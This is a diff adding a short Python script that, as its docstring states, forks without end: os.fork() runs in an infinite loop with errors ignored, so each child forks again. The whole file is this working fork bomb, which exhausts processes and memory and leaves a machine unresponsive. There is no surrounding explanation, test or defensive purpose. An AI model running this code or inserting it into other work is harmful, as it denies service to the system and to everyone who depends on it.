@@ -1,0 +1,9 @@
+"""Forks without end, each of the children too."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
